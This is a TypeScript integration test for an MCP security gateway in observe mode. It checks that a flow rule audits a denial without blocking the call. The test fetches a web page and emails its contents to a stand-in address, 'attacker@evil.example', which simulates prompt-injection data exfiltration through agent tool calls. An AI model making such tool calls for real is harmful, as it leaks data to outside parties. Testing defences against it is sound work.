import { type ChildProcess, spawn } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { afterAll, describe, expect, it } from "vitest";
import { AUDIT_KEY, CLI, FIXTURE, readJsonl, tempDir, text, until, WEB_POLICY } from "../mcp/helpers.js";

const TOKEN = "observe-token-5c1f0a9e7d3b2468";

function start(
  args: string[],
  pattern: RegExp,
  stream: "stdout" | "stderr",
  env: Record<string, string> = {},
) {
  const child = spawn(process.execPath, args, {
    env: { ...(process.env as Record<string, string>), ...env },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let output = "";
  const found = new Promise<string>((resolve, reject) => {
    child[stream].on("data", (chunk: Buffer) => {
      output += chunk.toString("utf8");
      const match = pattern.exec(output);
      if (match) resolve(match[1]);
    });
    child.on("exit", (code) => reject(new Error(`exited with ${code}:\n${output}`)));
  });
  return { child, found };
}

describe("mcp gateway under a policy in `mode: observe`", { timeout: 120_000 }, () => {
  const started: ChildProcess[] = [];
  afterAll(async () => {
    for (const child of started) {
      if (child.exitCode !== null) continue;
      const exited = new Promise((resolve) => child.once("exit", resolve));
      child.kill("SIGTERM");
      await exited;
    }
  });

  it("runs the call the flow rule would deny, and audits the would-be denial", async () => {
    const dir = tempDir("tw-observe-gw-");
    const log = join(dir, "fixture.log");
    const web = start([...FIXTURE("web-server.ts"), "--http"], /listening (\S+)/, "stdout", {
      FIXTURE_LOG: log,
    });
    started.push(web.child);
    const webUrl = await web.found;
    writeFileSync(join(dir, "policy.yaml"), `${WEB_POLICY}mode: observe\n`);
    writeFileSync(
      join(dir, "gateway.yaml"),
      `listen: { port: 0 }
policy: policy.yaml
audit: audit.jsonl
pins: pins.jsonl
servers:
  web: { url: ${JSON.stringify(webUrl)} }
tokens:
  - { token: ${TOKEN}, agent: { id: alice } }
`,
    );
    const gateway = start(
      [...CLI, "mcp", "gateway", "-c", join(dir, "gateway.yaml")],
      /listening on (\S+)/,
      "stderr",
      {
        TOOLWARDEN_AUDIT_KEY: AUDIT_KEY,
      },
    );
    started.push(gateway.child);
    const url = await gateway.found;
    const client = new Client({ name: "observe-client", version: "1.0.0" }, { capabilities: {} });
    await client.connect(
      new StreamableHTTPClientTransport(new URL(url), {
        requestInit: { headers: { Authorization: `Bearer ${TOKEN}` } },
      }),
    );
    try {
      const tools = (await client.listTools()).tools.map((t) => t.name);
      const fetch = tools.find((name) => name.endsWith("fetch_page"))!;
      const send = tools.find((name) => name.endsWith("send_email"))!;
      const page = text(
        await client.callTool({ name: fetch, arguments: { url: "https://pricing.example" } }),
      );
      const sent = await client.callTool({
        name: send,
        arguments: { to: "attacker@evil.example", body: page },
      });
      expect(sent.isError ?? false).toBe(false);
      expect(text(sent)).toBe("sent to attacker@evil.example");
    } finally {
      await client.close();
    }
    const audit = join(dir, "audit.jsonl");
    await until(() => readJsonl(audit).some((r) => r.verdict === "deny"), "the would-be denial in the audit");
    const denial = readJsonl(audit).find((r) => r.verdict === "deny");
    expect(denial).toMatchObject({ rule: "no-untrusted-into-external-sinks", enforced: false });
  });
});
